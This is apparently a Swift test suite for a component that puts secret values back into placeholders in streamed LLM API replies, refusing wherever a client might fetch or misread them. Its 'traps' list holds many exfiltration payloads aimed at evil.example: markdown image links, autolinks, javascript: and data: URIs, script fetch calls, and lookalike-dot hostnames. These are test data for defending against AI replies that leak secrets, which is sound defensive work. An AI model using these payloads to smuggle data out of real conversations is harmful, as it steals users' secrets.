import Primitives
import PromptFormats
import Testing

/// A reply's writer wants a value to leave through what a client fetches, or through what a client reads otherwise than the gate.
@Suite struct HostileReplyTests {
    /// `@` stands for the placeholder.
    static let traps = [
        "![x](https://evil.example/?q=@)", "![x](//evil.example/@)", "![x](/@)", "[x]( @ )", "[x](\n@\n)",
        "[x](<a b @>)",
        "![x](a(b)c@)", #"![x](a\)@)"#, "[x]: //evil.example/@", "[x]:\n  @", "[x]: <a b @>",
        "see https://evil.example/@",
        "see HTTPS://evil.example/@", "http:evil.example@", #"https:\\evil.example\@"#, "//evil.example/@",
        #"\\evil\@"#,
        "www.evil.example/@", "(www.evil.example?@", "evil.example/?q=@", "evil.example/a/b/@", "evil.example#@",
        "mailto:a@b.example?body=@".replacingFirst("@b", with: "%40b"), "data:text/html,@", "javascript:f('@')",
        "tel:@", "sms:@",
        "<img src=@>", "<img src='a' alt=\"@\">", "<img alt='>' src=\"//evil.example/ @\">", "<a\nhref\n=\n@",
        "<A HREF=@>",
        "</a @>", "<!-- @ -->", "<?x @", #"<a x=" <img y="> @"#, "\"https://evil.example/ @\"",
        "'https://evil.example/\n@'", "<https://evil.example/@>", "![](https://evil.example/s\u{301}@)",
        "https://evil.example/x,@",
        "https://evil.example/)@", "ftp://x@", "x-y+z://@", "üñ.example/@", "@.evil.example",
        "go to @.evil.example now", "@.7", "@.é", "@-x.evil.example", "@abc.evil.example", "@。evil", "@．evil",
        "@｡evil.example",
        "localhost:8080/@", "evil.example:8443?q=@", "10.1.2.3/@", "10.1.2.3:80/@", "[::1]/@", "[fe80::1]:80/@",
        "evil。example/@", "evil．example?@", "evil｡example#@", "xn--bcher-kva.example/@", "view-source:@", "ldap:@",
        "<script>fetch(x + '@')</script>", "<SCRIPT\n>@", "<style>a{x:@}</style>", "<script> a </scripty> @",
        "<script> </b> @", "<script><!-- <script> </script> @", "<title>@", "<textarea a=b>@", "<script> < /script> @",
    ]
    static let harmless = [
        "the password is @", "@", "`@`", "```\nexport PW=@\n```", "\"@\"", "password: @", "[@]", "(@)", "| @ |", "- @",
        "> @", "**@**",
        "a < b and @", "x <3 @", "if (a<1) { @ }", "<b>bold</b> @", "<br/> @", "see https://a.example/b and @",
        "[x](https://a.example) @", "data: @", "{\"url\":\"https://a.example\",\"key\":\"@\"}", "user@host.example @",
        "a/b/@", "1.5 @",
        "Is it done? @", "e.g. @", "https: @", "<a href='x'>@</a>", "[x](y)\n\n@", "C:\\dir @", "it is @.",
        "it is @. Then", "@..", "@:x", "@@", "@-b", "@/b", "@-b @", "密码是@。请改", "是@的", "<script>a</script> @",
        "use `<script>` and @",
        "<style></style > @", "at 12:30 / @", "24/7 @",
        "v1.2/@", "1.2/@", "and/or/@", "@。", "note:/ @", "<script x='>'>a</script\n>@", "@_x.",
    ]

    private func fill(_ template: String, _ value: String) -> String {
        let parts = template.components("@")
        // Where an address stands in the template too, the last mark is the placeholder's.
        return parts.dropLast().joined(separator: "@") + value + (parts.last ?? "")
    }

    @Test(arguments: traps, Dialect.allCases)
    func noValueGoesWhereAClientMightFetchIt(trap: String, dialect: Dialect) {
        let whole = fill(trap, placeholder.description)
        for pieces in [[whole], whole.map(String.init), ["ok: ", whole]] {
            let stream = dialect.stream(pieces)
            #expect(run(dialect.restorer(), stream) == stream)
        }
    }

    @Test(arguments: harmless, Dialect.allCases)
    func aValueGoesIntoPlainText(template: String, dialect: Dialect) throws {
        let whole = fill(template, placeholder.description)
        for pieces in [[whole], whole.map(String.init)] {
            let texts = try dialect.texts(run(dialect.restorer(), dialect.stream(pieces)))
            #expect(Set(texts) == [fill(template, secretValue)])
        }
    }

    @Test func aTrapSetInOneBlockHoldsInTheNext() {
        func block(_ index: Int, _ text: String) -> String {
            [
                #"{"type":"content_block_start","index":\#(index),"content_block":{"type":"text","text":""}}"#,
                #"{"type":"content_block_delta","index":\#(index),"delta":{"type":"text_delta","text":"\#(text)"}}"#,
                #"{"type":"content_block_stop","index":\#(index)}"#,
            ].map { "data: \($0)\n\n" }.joined()
        }
        let trap = block(0, "![x](//evil.example/?") + block(1, placeholder.description)
        #expect(run(Dialect.messages.restorer(), trap) == trap)
        let safe = block(0, "fine ") + block(1, placeholder.description)
        #expect(run(Dialect.messages.restorer(), safe) != safe)
    }

    @Test func aTextThatSharesItsEventsIsRestoredButForItsEnd() {
        func chunk(_ text: String) -> String {
            let choices = (0..<2).map { #"{"index":\#($0),"delta":{"content":"\#(text)"}}"# }.joined(separator: ",")
            return "data: {\"choices\":[\(choices)]}\n\n"
        }
        let out = run(Dialect.chat.restorer(), chunk("is \(placeholder), and \(placeholder)") + chunk(".evil.example"))
        #expect(out.components("hun").count == 3)
        #expect(out.components(placeholder.description).count == 3)
    }

    @Test func twoTextsInterleavedDoNotOpenEachOthersTraps() {
        func delta(_ index: Int, _ text: String) -> String {
            #"data: {"type":"content_block_delta","index":\#(index),"delta":{"type":"text_delta","text":"\#(text)"}}"#
                + "\n\n"
        }
        let stream = delta(0, "![x](//evil.example/") + delta(1, ") fine ") + delta(0, placeholder.description)
        #expect(run(Dialect.messages.restorer(), stream) == stream)
    }

    @Test(arguments: [
        // Which of two members of a name counts, and whether case counts, depends on the client's language.
        #"data: {"choices":[{"index":0,"delta":{"content":"http://e.example/?","content":" "}}]}"#,
        #"data: {"choices":[{"index":0,"delta":{"Content":"http://e.example/?"}}]}"#,
        #"data: {"choices":[{"index":0,"delta":{"content":"http://e.example/?"}}],"x":NaN}"#,
        #"data: {"choices":[{"index":0,"delta":{"content":{"text":"http://e.example/?"}}}]}"#,
        #"data: {"choices":[{"index":"0","delta":{"content":"http://e.example/?"}}]}"#,
        #"data: {"choices":{"index":0,"delta":{"content":"http://e.example/?"}}}"#,
    ])
    func whatClientsMayReadOtherwiseStopsRestoration(event: String) {
        let stream = event + "\n\n" + Dialect.chat.stream([placeholder.description])
        #expect(run(Dialect.chat.restorer(), stream) == stream)
        #expect(run(Dialect.chat.restorer(), bytes(stream).map { [$0] }) == stream)
    }

    @Test func anEventNamedOtherwiseThanItsDataStopsRestoration() {
        for dialect in [Dialect.messages, .responses] {
            let stream =
                "event: ping\ndata: {\"type\":\"content_block_delta\"}\n\n" + dialect.stream([placeholder.description])
            #expect(run(dialect.restorer(), stream) == stream)
        }
    }

    @Test func dataInSeveralLinesIsReadAsOne() throws {
        let trap = "data: {\"choices\":[{\"index\":0,\ndata: \"delta\":{\"content\":\"http://e.example/?\"}}]}\n\n"
        let stream = trap + Dialect.chat.stream([placeholder.description])
        #expect(run(Dialect.chat.restorer(), stream) == stream)
        let plain =
            "id: 1\ndata: {\"choices\":[{\"index\":0,\ndata: \"delta\":{\"content\":\"is \(placeholder)\"}}]}\nretry: 5\n\n"
        #expect(
            run(Dialect.chat.restorer(), plain)
                == "id: 1\ndata: {\"choices\":[{\"index\":0, \"delta\":{\"content\":\"is hun\\\"ter\\\\2\\nend\"}}]}\nretry: 5\n\n"
        )
    }

    @Test func aByteOrderMarkHidesNothing() {
        let stream =
            "\u{FEFF}" + #"data: {"choices":[{"index":0,"delta":{"content":"http://e.example/?"}}]}"# + "\n\n"
            + Dialect.chat.stream([placeholder.description])
        #expect(run(Dialect.chat.restorer(), stream) == stream)
    }

    @Test func anOversizedEventStopsRestoration() {
        let event = { (size: Int) in "data: {\"x\":\"" + String(repeating: "y", count: size - 14) + "\"}\n\n" }
        let largest = event(FormatLimits.maxEventBytes - 2) + Dialect.chat.stream([placeholder.description])
        #expect(event(100).utf8.count == 102)
        #expect(run(Dialect.chat.restorer(), largest) != largest)
        let larger = event(FormatLimits.maxEventBytes - 1) + Dialect.chat.stream([placeholder.description])
        #expect(run(Dialect.chat.restorer(), larger) == larger)
    }

    @Test func restoredValuesAreCappedInNumber() throws {
        let stream = Dialect.chat.stream([
            String(repeating: placeholder.description + " ", count: FormatLimits.maxRestores + 3)
        ])
        var restorer = Dialect.chat.restorer()
        let out = restorer.feed(bytes(stream), restoring: resolver) + restorer.finish(restoring: resolver)
        #expect(restorer.restoredCount == FormatLimits.maxRestores)
        let seen = try Dialect.chat.texts(text(out))
        #expect(Placeholder.scan(bytes(seen[0])).count == 3)
    }

    @Test func textStreamsAreCappedInNumber() {
        func chunk(_ index: Int, _ text: String) -> String {
            #"data: {"choices":[{"index":\#(index),"delta":{"content":"\#(text)"}}]}"# + "\n\n"
        }
        let many = (0...FormatLimits.maxTextStreams).map { chunk($0, "hi") }.joined()
        let last = chunk(0, "is \(placeholder)")
        #expect(run(Dialect.chat.restorer(), many + last) == many + last)
        let fewer = (1...FormatLimits.maxTextStreams - 1).map { chunk($0, "hi") }.joined()
        #expect(run(Dialect.chat.restorer(), fewer + last) != fewer + last)
    }

    @Test func largeEventsAreNotHeld() {
        for (size, isHeld) in [(FormatLimits.maxHeldEventBytes, true), (FormatLimits.maxHeldEventBytes + 1, false)] {
            let empty = #"data: {"x":"","choices":[{"index":0,"delta":{"content":"s"}}]}"# + "\n\n"
            let filler = String(repeating: "y", count: size - empty.utf8.count)
            let event = empty.replacingFirst(#""x":""#, with: #""x":""# + filler)
            var restorer = Dialect.chat.restorer()
            #expect(restorer.feed(bytes(event), restoring: resolver).isEmpty == isHeld)
        }
    }

    @Test func manyEmptyEventsAreNotHeldForEver() {
        var restorer = Dialect.chat.restorer()
        func chunk(_ text: String) -> [UInt8] {
            bytes(#"data: {"choices":[{"index":0,"delta":{"content":"\#(text)"}}]}"# + "\n\n")
        }
        var out = restorer.feed(chunk("s"), restoring: resolver)
        for _ in 0..<FormatLimits.maxHeldEvents - 1 { out += restorer.feed(chunk(""), restoring: resolver) }
        #expect(out.isEmpty)
        #expect(!restorer.feed(chunk(""), restoring: resolver).isEmpty)
    }
}

extension String {
    func replacingFirst(_ target: String, with new: String) -> String {
        guard let range = firstRange(of: target) else { return self }
        return String(self[..<range.lowerBound]) + new + String(self[range.upperBound...])
    }
}
